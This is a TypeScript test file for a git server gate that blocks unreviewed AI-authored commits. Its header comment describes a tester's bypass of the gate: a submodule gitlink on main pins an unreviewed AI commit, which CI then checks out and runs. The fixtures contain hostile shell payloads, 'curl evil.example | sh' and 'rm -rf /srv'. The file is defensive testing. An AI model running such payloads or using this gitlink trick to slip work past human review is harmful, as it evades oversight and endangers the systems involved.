import * as assert from 'assert';
import { attach, sign, statementFor } from '../helpers/approvals';
import { verifyThenPush } from '../helpers/gateAgreement';
import { setup, type Setup } from '../helpers/gateServer';

/**
 * An outside tester's bypass (session 5, F4): an unreviewed AI commit X kept on an unprotected branch of the
 * same server, and on main a gitlink `vendor/lib` → X with a `.gitmodules` saying `url = ./`. The commit on
 * main adds no AI line of its own, so it passed, and CI's `git submodule update --init` then checked out and
 * ran X's payload. A second variant pushes the gitlink first (X not on the server yet, so nothing to look
 * at) and X afterwards. Both pushes go through the real pre-receive, with `verify` asked first.
 */
const HUMAN = 'AI-Provenance: v1 ai=0 human=0 untracked=4';
const MODULES = '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = ./\n';

describe('server gate: a gitlink pins only judged commits (real pushes)', function () {
  this.timeout(120_000);
  let s: Setup;
  let mainTip: string;

  before(() => {
    s = setup();
    mainTip = s.ada.git('rev-parse', 'main');
  });

  afterEach(() => {
    s.ada.git('checkout', '-q', '-f', 'main');
    s.ada.git('reset', '-q', '--hard', mainTip);
  });

  /** An AI commit on an orphan branch of Ada's clone; returns its id. */
  function aiPayload(branch: string, text: string): string {
    s.ada.git('checkout', '-q', '--orphan', branch);
    s.ada.git('rm', '-rfq', '--cached', '.');
    s.ada.git('clean', '-fdq');
    s.ada.write('payload.sh', text);
    s.ada.git('add', 'payload.sh');
    const x = s.ada.commit('ai payload', '-m', 'AI-Provenance: v1 ai=2 human=0 untracked=0');
    s.ada.git('checkout', '-q', '-f', 'main');
    return x;
  }

  function pinOnMain(target: string): string {
    s.ada.write('.gitmodules', MODULES);
    s.ada.git('update-index', '--add', '--cacheinfo', `160000,${target},vendor/lib`);
    s.ada.git('add', '.gitmodules');
    return s.ada.commit('vendor lib', '-m', HUMAN);
  }

  it('refuses a gitlink to an unreviewed commit on an unprotected branch of the same server, and verify agrees', () => {
    const x = aiPayload('lib', '#!/bin/sh\ncurl evil.example | sh\n');
    assert.strictEqual(s.ada.gitResult(['push', '-q', '--no-verify', 'origin', 'lib']).status, 0);
    pinOnMain(x);
    const before = s.server.git('rev-parse', 'main');
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'the gitlink pins a commit no protected branch holds');
    assert.match(r.stderr, /vendor\/lib/);
    assert.match(r.stderr, new RegExp(x.slice(0, 12)));
    assert.strictEqual(s.server.git('rev-parse', 'main'), before);
  });

  it('refuses a gitlink to a commit the server does not have yet (pushed to an unprotected branch later)', () => {
    const y = aiPayload('lib2', '#!/bin/sh\nrm -rf /srv\n');
    pinOnMain(y);
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'a gitlink to a commit the gate cannot see is not presumed reviewed');
    assert.match(r.stderr, /vendor\/lib/);
  });

  it('passes a gitlink to a commit already on a protected branch, and one a reviewer approved', () => {
    pinOnMain(mainTip);
    const ok = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.strictEqual(ok.status, 0, ok.stderr);
    mainTip = s.ada.git('rev-parse', 'main');

    const z = aiPayload('lib3', '#!/bin/sh\necho reviewed\n');
    assert.strictEqual(s.ada.gitResult(['push', '-q', '--no-verify', 'origin', 'lib3']).status, 0);
    s.ada.git('update-index', '--cacheinfo', `160000,${z},vendor/lib`);
    const tip = s.ada.commit('bump vendor lib', '-m', 'AI-Provenance: v1 ai=0 human=0 untracked=0');
    attach(s.ada.dir, sign(s.bob, statementFor(s.ada.dir, { email: 'bob@example.com', tip, base: mainTip })));
    assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
    const approved = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.strictEqual(approved.status, 0, approved.stderr);
    mainTip = tip;
  });
});
